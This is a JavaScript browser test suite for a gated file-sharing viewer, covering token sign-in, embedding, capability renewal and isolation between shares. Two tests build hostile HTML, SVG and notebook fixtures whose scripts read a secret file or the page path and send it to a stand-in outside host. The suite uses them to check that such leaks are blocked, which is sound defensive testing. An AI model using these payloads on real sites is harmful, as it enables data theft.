// Readers of gated shares: handed in by a link or by the page around, kept in by renewals, turned away without a hint.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { welcome } from "./fixture.mjs";
import { appOrigin, drawn as settledIn, embed, folderWithPdf, launchWithoutThirdPartyCookies, linkWithToken, publishGated, statusOf, tokenFor, viewerFrame } from "./gated-world.mjs";
import { frameOrigin, newPage, open, publish, settled, shareOrigin, shareUrl } from "./world.mjs";

let browser;
let published;
before(async () => {
  browser = await launchWithoutThirdPartyCookies();
  published = publishGated(welcome);
});
after(() => browser.close());

const failure = (page) => page.locator(".problem").getAttribute("data-failure");
/** The browser itself reports an answer of 401 or 404 as an error of the page's. */
const faultsBeside = (page, expected) => page.faults.filter((fault) => !expected.test(fault));
const STATUSES = /Failed to load resource: .*(401|404)/;
/** The page is a 404 to everybody until its reader is let in. */
const SHELL = /Failed to load resource: .*404 \(Not Found\) \(http:\/\/share\.localhost:\d+\/[0-9a-z]{26}\//;

test("a link with a token opens the share, and the token is gone from the address at once", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  await open(page, await linkWithToken(published, "code/dispersion.py", "L3"));
  await page.locator(".cm-content").waitFor();
  assert.equal(page.url(), `${shareUrl(published, "code/dispersion.py")}#L3`);
  assert.equal(await page.evaluate(() => history.length), 2, "about:blank and this");
  const data = requests.filter((url) => url.startsWith(`${shareOrigin}/~`) && !url.endsWith("/session"));
  assert.ok(data.length >= 3, data.join(" "));
  for (const url of data) assert.match(url, /\/~[\w-]{47}\//);
  assert.ok(!requests.some((url) => url.includes("eyJ")), "no token in any URL that was asked for");
  assert.deepEqual(faultsBeside(page, SHELL), []);

  await page.reload();
  await settled(page);
  await page.locator(".cm-content").waitFor();
  await page.goto(shareUrl(published, "data"));
  await settled(page);
  assert.ok((await page.locator("table.listing tbody tr").count()) > 2, "the tab remembers its reader");
  await page.context().close();
});

test("without a token there is a way to sign in, and nothing else", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await open(page, shareUrl(published, "code/dispersion.py"));
  assert.equal(await failure(page), "share-not-found");
  const link = page.getByRole("link", { name: "Sign in to view" });
  assert.equal(await link.getAttribute("href"), `${appOrigin}/open/${published.share_id}/code/dispersion.py`);
  // What surrounds the page comes after it.
  const whole = () => page.locator("#preferences select").first().waitFor();
  await whole();
  const gated = await page.content();
  await open(page, shareUrl({ share_id: "e0000000000000000000000000" }, "code/dispersion.py"));
  await whole();
  const unknown = await page.content();
  const anonymous = (html) => html.replaceAll(/e[0-9a-z]{25}/g, "ID");
  assert.equal(anonymous(gated), anonymous(unknown), "a share that is not there looks the same");
  assert.deepEqual(faultsBeside(page, STATUSES), []);
  await page.context().close();
});

test("a token that is refused does not turn away a reader who is in already", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await open(page, await linkWithToken(published, "code"));
  await page.locator("table.listing").waitFor();
  await page.goto("about:blank");
  await open(page, await linkWithToken(published, "code", "", { ttl: -60 }));
  await page.locator("table.listing").waitFor();
  await page.evaluate(() => (location.hash = "token=garbage&x=1"));
  await page.waitForURL(`${shareUrl(published, "code")}#x=1`);
  await settled(page);
  await page.locator("table.listing").waitFor();
  await page.context().close();
});

for (const [what, options] of [
  ["is over", { ttl: -60 }],
  ["lives too long", { ttl: 7200 }],
]) {
  test(`a token that ${what} asks to sign in again`, { timeout: 60_000 }, async () => {
    const page = await newPage(browser);
    await open(page, await linkWithToken(published, "", "", options));
    assert.equal(await failure(page), "sign-in");
    await page.getByRole("link", { name: "Sign in to view" }).waitFor();
    assert.ok(!page.url().includes("token"), page.url());
    await page.context().close();
  });
}

test("a token for another scope opens nothing", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await open(page, await linkWithToken(published, "", "", { scope: "org", org: "o" }));
  assert.equal(await failure(page), "share-not-found");
  await page.context().close();
});

/** Checks of one path of the share, each inside the app's page. */
const embedded = (name, path, check) =>
  test(`embedded: ${name}`, { timeout: 90_000 }, async () => {
    const page = await newPage(browser);
    const frame = await embed(page, published, path);
    await check(frame, page);
    assert.deepEqual(faultsBeside(page, SHELL), []);
    assert.deepEqual(await page.context().cookies(), [], "nobody sets a cookie");
    await page.context().close();
  });

embedded("third-party cookies are blocked here", "", async (frame) => {
  const kept = await frame.evaluate(() => {
    document.cookie = "probe=1; SameSite=None; Secure";
    document.cookie = "probe2=1";
    return document.cookie;
  });
  assert.equal(kept, "");
});

embedded("a folder, by links", "", async (frame) => {
  await frame.locator("table.listing").waitFor();
  await frame.getByRole("link", { name: "code", exact: true }).first().click();
  await frame.getByRole("link", { name: "dispersion.py" }).click();
  await frame.locator(".cm-content").waitFor();
});

embedded("pictures", "images/interference.png", async (frame) => {
  await frame.waitForFunction(() => document.querySelector("main img").naturalWidth > 100);
});

embedded("a drawing from the frame origin", "images/mark.svg", async (frame) => {
  const src = await frame.locator("main img").getAttribute("src");
  assert.match(src, new RegExp(`^${frameOrigin}/gated/~[\\w-]{47}/`));
  await frame.waitForFunction(() => document.querySelector("main img").naturalWidth > 0);
});

embedded("pictures of a Markdown file", "README.md", async (frame) => {
  const images = frame.locator("main .prose img");
  assert.ok((await images.count()) > 0);
  for (const image of await images.all()) {
    await image.scrollIntoViewIfNeeded();
    await frame.waitForFunction((one) => one.complete && one.naturalWidth > 0, await image.elementHandle());
  }
});

embedded("sound", "media/beats.wav", async (frame) => {
  await frame.waitForFunction(() => document.querySelector("audio").duration > 0.5);
});

embedded("a PDF", "paper/standing-waves.pdf", async (frame) => {
  await frame.locator(".pdfViewer canvas").first().waitFor();
});

embedded("a notebook with outputs in frames", "notebooks/waves.ipynb", async (frame) => {
  const hosts = frame.locator("iframe.output-frame");
  // A frame is made when its place comes near.
  const places = await frame.locator(".output-frame-place").all();
  assert.ok(places.length > 0);
  for (const place of places) await place.scrollIntoViewIfNeeded();
  await hosts.first().waitFor();
  assert.equal(await hosts.first().getAttribute("src"), `${frameOrigin}/gated/`);
});

embedded("an HTML file with its own style and script", "interactive/index.html", async (frame, page) => {
  const source = await frame.locator("iframe.html-file").getAttribute("src");
  assert.match(source, new RegExp(`^${frameOrigin}/gated/~[\\w-]{47}/`));
  const inside = page.frames().find((one) => one.url().startsWith(frameOrigin));
  await inside.waitForFunction(() => {
    const canvas = document.querySelector("canvas");
    return canvas?.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data.some((value) => value !== 0);
  });
  // What it knows of itself opens nothing on the share origin.
  const known = new URL(source).pathname;
  assert.equal(await statusOf(shareOrigin + known.replace("/gated", "")), 401);
});

embedded("downloads", "data/samples.bin", async (frame, page) => {
  const [download] = await Promise.all([page.waitForEvent("download"), frame.getByRole("link", { name: "Download" }).first().click()]);
  assert.deepEqual(readFileSync(await download.path()), readFileSync(join(welcome, "data/samples.bin")));
});

embedded("the page around hears of height, title and path", "", async (frame, page) => {
  const told = (text) => page.waitForFunction((wanted) => document.querySelector("output").textContent.includes(wanted), text);
  await told('"height":');
  await told('path: {"path":"","url"');
  await frame.getByRole("link", { name: "code", exact: true }).first().click();
  await told('path: {"path":"code"');
  await told('title: {"title":"code — ');
  const [host, inside] = await Promise.all([
    page.evaluate(() => document.querySelector("vitrine-share").getBoundingClientRect().height),
    frame.evaluate(() => document.body.getBoundingClientRect().height),
  ]);
  assert.ok(Math.abs(host - inside) < 4, `the element is ${host} high, its content ${inside}`);
  assert.equal(await frame.locator("footer.bottom").isVisible(), false);
});

test("a page that gives no token can give one later", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  const frame = await embed(page, published, "", " ");
  assert.equal(await failure(frame), "share-not-found");
  await page.fill("textarea[name=token]", await tokenFor(published));
  await frame.getByRole("button", { name: "Try again" }).click();
  await frame.locator("table.listing").waitFor();
  await page.context().close();
});

test("a token that comes late is not in vain", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await page.goto(`${appOrigin}/embed-example`);
  const token = await tokenFor(published);
  await page.exposeFunction("give", () => token);
  // Only when the reader has been turned away.
  await page.evaluate(() => {
    const element = document.querySelector("vitrine-share");
    const away = new Promise((resolve) => element.addEventListener("vitrine-title", ({ detail }) => /nothing here/.test(detail.title) && resolve()));
    element.token = () => away.then(() => window.give());
  });
  await page.fill("input[name=src]", shareUrl(published));
  await page.click("button");
  const frame = await viewerFrame(page);
  await frame.locator("table.listing").waitFor({ timeout: 40_000 });
  await page.context().close();
});

test("a token callback that fails, or answers for ever, keeps nobody waiting for ever", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await page.goto(`${appOrigin}/embed-example`);
  for (const callback of ["throws", "hangs"]) {
    await page.evaluate((how) => {
      const element = document.querySelector("vitrine-share");
      element.token = how === "throws" ? () => Promise.reject(new Error("no")) : () => new Promise(() => {});
    }, callback);
    await page.fill("input[name=src]", shareUrl(published, callback === "throws" ? "" : "code"));
    await page.click("button");
    const frame = await viewerFrame(page);
    await frame.waitForURL((url) => url.pathname.endsWith(callback === "throws" ? "/" : "/code"));
    await frame.locator(".problem[data-failure=share-not-found]").waitFor({ timeout: 20_000 });
  }
  await page.context().close();
});

test("a gated document cannot carry what it knows to one that may talk to the world", { timeout: 90_000 }, async () => {
  const folder = mkdtempSync(join(tmpdir(), "vitrine-leak-"));
  writeFileSync(join(folder, "secret.txt"), "a secret of this share");
  // The author's own open share: a document there may ask any host.
  const talker = publish(folder);
  const target = `${frameOrigin}/~/${talker.share_id}/files/${talker.manifest_id}/secret.txt`;
  const attack = (carried) => `location.href = ${JSON.stringify(target)} + "#" + encodeURIComponent(${carried})`;
  writeFileSync(join(folder, "leak.html"), `<p id="here">here</p><script>fetch("secret.txt").then((a) => a.text()).then((text) => { ${attack("text + location.pathname")}; });</script>`);
  const cell = { cell_type: "code", execution_count: 1, metadata: {}, source: "", outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": `<script>${attack('"from an output"')}</script>` } }] };
  writeFileSync(join(folder, "leak.ipynb"), JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [cell] }));
  const leaky = publishGated(folder);
  for (const path of ["leak.html", "leak.ipynb"]) {
    const page = await newPage(browser);
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    const refused = page.waitForEvent("console", { predicate: (message) => /frame-src/.test(message.text()), timeout: 20_000 });
    await open(page, await linkWithToken(leaky, path));
    await refused;
    assert.deepEqual(asked.filter((url) => url.includes(talker.share_id)), [], path);
    await page.context().close();
  }
});

test("a gated drawing or page in a tab of its own runs nothing and asks nobody else", { timeout: 90_000 }, async () => {
  const folder = mkdtempSync(join(tmpdir(), "vitrine-alone-"));
  const away = "http://elsewhere.localhost/";
  const script = `document.documentElement.setAttribute("data-ran", "yes"); fetch("${away}fetched"); location.href = "${away}left?" + encodeURIComponent(location.pathname)`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload='${script.replaceAll("'", "")}'><rect width="40" height="40" fill="teal"/><image href="${away}image" width="9" height="9"/><script>${script.replaceAll("&", "&amp;")}</script></svg>`;
  const rules = JSON.stringify({ prefetch: [{ urls: [`${away}rules`] }] });
  const html = `<!doctype html><meta http-equiv="refresh" content="0; url=${away}refresh"><link rel="prefetch" href="${away}prefetch"><link rel="stylesheet" href="${away}sheet"><style>body { background: url(${away}background) }</style><p>here</p><img src="${away}image" onerror='${script.replaceAll("'", "")}'><iframe src="${away}frame"></iframe><object data="${away}object"></object><script>${script}</script><script type="speculationrules">${rules}</script>`;
  writeFileSync(join(folder, "evil.svg"), svg);
  writeFileSync(join(folder, "evil.html"), html);
  writeFileSync(join(folder, "evil.xhtml"), `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>here</p><script>${script}</script></body></html>`);
  const leaky = publishGated(folder);
  const page = await newPage(browser);
  await open(page, await linkWithToken(leaky, "evil.svg"));
  const picture = await page.locator("main img").getAttribute("src");
  await page.waitForFunction(() => document.querySelector("main img").naturalWidth > 0);
  for (const name of ["evil.svg", "evil.html", "evil.xhtml"]) {
    const alone = await page.context().newPage();
    const asked = [];
    await alone.route(`${away}**`, (route) => route.fulfill({ body: "" }));
    alone.on("request", (request) => asked.push(request.url()));
    const [answer] = await Promise.all([alone.waitForResponse((one) => one.url().startsWith(frameOrigin)), alone.goto(picture.replace("evil.svg", name), { waitUntil: "load" })]);
    assert.equal(answer.status(), 200, name);
    // What could leave by itself leaves within moments of the page's end.
    await alone.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    await alone.waitForTimeout(500);
    assert.equal(await alone.evaluate(() => document.documentElement.getAttribute("data-ran")), null, name);
    assert.ok(alone.url().startsWith(`${frameOrigin}/gated/~`), alone.url());
    assert.deepEqual(asked.filter((url) => !url.startsWith(frameOrigin)), [], name);
    await alone.close();
  }
  await page.context().close();
});

test("another site cannot embed a share, nor hear a token", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  const html = `<iframe src="${shareUrl(published)}"></iframe>`;
  await page.route("http://elsewhere.localhost/", (route) => route.fulfill({ contentType: "text/html", body: html }));
  await page.goto("http://elsewhere.localhost/");
  const frame = page.frames()[1];
  assert.equal(await frame.evaluate(() => document.querySelector("main, .problem")), null);
  assert.ok(frame.url().startsWith("chrome-error:"), frame.url());
  await page.context().close();
});

test("a film plays on through one capability after another", { timeout: 120_000 }, async () => {
  const page = await newPage(browser);
  const frame = await embed(page, published, "media/travelling-wave.webm");
  const sessions = [];
  page.on("response", (answer) => {
    if (answer.url().endsWith("/session")) sessions.push(answer.status());
  });
  await frame.evaluate(() => {
    const video = document.querySelector("video");
    window.seen = { sources: [video.src], errors: 0, stops: 0 };
    video.addEventListener("error", () => (window.seen.errors += 1));
    video.addEventListener("loadstart", () => window.seen.sources.push(video.src));
    video.loop = true;
    video.muted = true;
    return video.play();
  });
  const first = await frame.evaluate(() => window.seen.sources[0]);
  await frame.waitForFunction(() => new Set(window.seen.sources).size >= 4, undefined, { timeout: 80_000 });
  assert.ok(sessions.length >= 3 && sessions.every((status) => status === 200), sessions.join(" "));
  assert.equal(await statusOf(first), 401, "the first capability is over");
  // A source that has just begun has no length yet.
  await frame.waitForFunction(() => Number.isFinite(document.querySelector("video").duration), undefined, { timeout: 20_000 });
  const state = await frame.evaluate(
    () =>
      new Promise((resolve) => {
        const video = document.querySelector("video");
        // The next capability may come in the middle of the seek: the viewer then seeks again, to where it was.
        video.addEventListener("seeked", () => video.currentTime > 1 && resolve({ at: video.currentTime, paused: video.paused, errors: window.seen.errors }));
        video.currentTime = video.duration / 2;
      }),
  );
  assert.ok(state.at > 1 && !state.paused && state.errors === 0, JSON.stringify(state));
  await page.context().close();
});

test("a film keeps its place when its address changes before it is known how long it is", { timeout: 120_000 }, async () => {
  const page = await newPage(browser);
  await open(page, await linkWithToken(published, "media/travelling-wave.webm"));
  await page.evaluate(() => {
    const video = document.querySelector("video");
    video.currentTime = 5;
    video.playbackRate = 1.5;
    window.sources = new Set([video.src]);
    new MutationObserver(() => window.sources.add(video.src)).observe(video, { attributeFilter: ["src"] });
  });
  await page.waitForFunction(() => !document.querySelector("video").seeking);
  // From here on nothing of the film comes, until its address has changed twice.
  const held = [];
  await page.route("**/travelling-wave.webm", (route) => void held.push(route));
  await page.waitForFunction(() => window.sources.size >= 3, undefined, { timeout: 80_000 });
  assert.equal(await page.evaluate(() => document.querySelector("video").readyState), 0);
  await page.unroute("**/travelling-wave.webm");
  await Promise.all(held.map((route) => route.continue().catch(() => {})));
  await page.waitForFunction(() => document.querySelector("video").readyState > 0 && !document.querySelector("video").seeking, undefined, { timeout: 20_000 });
  const { at, rate, paused } = await page.evaluate(() => {
    const { currentTime: at, playbackRate: rate, paused } = document.querySelector("video");
    return { at, rate, paused };
  });
  assert.ok(Math.abs(at - 5) < 0.5 && rate === 1.5 && paused, JSON.stringify({ at, rate, paused }));
  await page.context().close();
});

test("a PDF opens at page 10 by ranges alone, and goes on after its capability has ended", { timeout: 120_000 }, async () => {
  const { folder, size } = folderWithPdf(40, 200_000);
  const heavy = publishGated(folder);
  const page = await newPage(browser);
  const answers = [];
  page.on("response", (answer) => {
    if (answer.url().includes("heavy.pdf") && answer.url().includes("/~")) answers.push(answer);
  });
  await open(page, await linkWithToken(heavy, "heavy.pdf", "page=10"));
  await page.waitForFunction(() => document.querySelector(".pdf-page-field")?.value === "10");
  assert.ok(page.url().endsWith("#page=10"), page.url());
  await page.locator(".pdfViewer .page[data-page-number='10'] canvas").waitFor();
  assert.ok(answers.length > 0 && answers.every((answer) => answer.status() === 206));
  const read = answers.reduce((sum, answer) => sum + Number(answer.headers()["content-length"]), 0);
  const drawn = await page.locator(".pdfViewer .page:has(canvas)").evaluateAll((pages) => pages.map((one) => one.getAttribute("aria-label")));
  assert.ok(!drawn.includes("Page 1"), drawn.join(", "));
  assert.ok(read < size / 4, `${read} of ${size} bytes for one page`);
  const before = new URL(answers[0].url()).pathname.split("/")[1];
  await page.waitForResponse((answer) => answer.url().endsWith("/session") && answer.ok(), { timeout: 30_000 });
  // The answer is there a moment before the page goes by it: then its own link to the file has changed.
  await page.waitForFunction((old) => !document.querySelector("main a[download]").getAttribute("href").includes(old), before, { timeout: 20_000 });
  const later = page.waitForResponse((answer) => answer.url().includes("heavy.pdf") && answer.status() === 206);
  await page.evaluate(() => (location.hash = "page=30"));
  assert.notEqual(new URL((await later).url()).pathname.split("/")[1], before, "under a new capability");
  await page.locator(".pdfViewer .page[data-page-number='30'] canvas").waitFor();
  assert.deepEqual(faultsBeside(page, SHELL), []);
  await page.context().close();
});

test("links and pictures of a page that stays open follow the capability", { timeout: 120_000 }, async () => {
  const page = await newPage(browser);
  await open(page, await linkWithToken(published, "data/samples.bin"));
  const link = page.getByRole("link", { name: "Download" }).first();
  const first = await link.getAttribute("href");
  await page.waitForFunction((old) => document.querySelector("main a[download]").getAttribute("href") !== old, first, { timeout: 40_000 });
  await page.waitForResponse((answer) => answer.url().endsWith("/session") && answer.ok(), { timeout: 40_000 });
  assert.equal(await statusOf(shareOrigin + first), 401);
  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
  assert.equal(download.suggestedFilename(), "samples.bin");
  await page.context().close();
});

test("a capability of one share opens no other", { timeout: 60_000 }, async () => {
  const page = await newPage(browser);
  await open(page, await linkWithToken(published));
  const other = publishGated(welcome);
  const capability = await page.evaluate(async ([share, token]) => {
    const answer = await fetch(`/~/${share}/session`, { method: "POST", body: JSON.stringify({ token }) });
    return (await answer.json()).capability;
  }, [published.share_id, await tokenFor(published)]);
  const status = (share) => statusOf(`${shareOrigin}/~${capability}/${share}/latest.json`);
  assert.equal(await status(published.share_id), 200);
  assert.equal(await status(other.share_id), 401);
  await settledIn(page.mainFrame());
  await page.context().close();
});
